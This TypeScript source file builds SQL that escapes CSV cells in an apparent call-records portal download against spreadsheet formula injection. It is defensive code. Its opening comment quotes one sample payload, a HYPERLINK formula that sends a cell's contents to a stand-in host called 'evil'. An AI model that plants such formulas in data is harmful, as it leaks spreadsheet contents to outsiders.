// Spreadsheet formula injection ("CSV injection"). Excel, LibreOffice and Google Sheets run a cell
// that starts with `=`, `+`, `-` or `@` as a formula, and some skip a leading tab or CR first. A
// caller name is chosen by whoever places the call, so `=HYPERLINK("http://evil/?"&A1,"Click")`
// in a CDR is a stranger's text reaching the account holder's spreadsheet.
//
// Only the portal's CSV download asks for escaping (`csv_formula_escape=true`): such a cell gets a
// leading `'`, which spreadsheets read as "this cell is text". API CSV and DIDWW export files stay
// literal, because programs read them and must get back exactly what was stored (docs/api-kazoo.md).
// Plain numbers (`+442071234567`, `-12.5`) are not formulas and keep their sign: a `'` would turn
// a phone number or an amount into text.

/** A cell that is a plain number, signed or not: never a formula. */
const PLAIN_NUMBER = '^[+-]?([0-9]+([.][0-9]*)?|[.][0-9]+)$';

/**
 * SQL for a projection's expression as a spreadsheet-safe CSV cell (text). It is built from
 * constants and the expression it is given (a column list's own SQL), never from request values.
 * `concat()` turns any type into the same text COPY would print for it (`t` for a boolean, unlike
 * a `::text` cast), so cells that need no escaping come out byte for byte as before; NULL stays
 * NULL (an empty cell, not `""`).
 */
export function csvFormulaSafe(expression: string): string {
  const text = `concat(${expression})`;
  return (
    `(case when (${expression}) is null then null` +
    ` when left(${text}, 1) in ('=', '+', '-', '@', chr(9), chr(13)) and ${text} !~ '${PLAIN_NUMBER}'` +
    ` then '''' || ${text} else ${text} end)`
  );
}
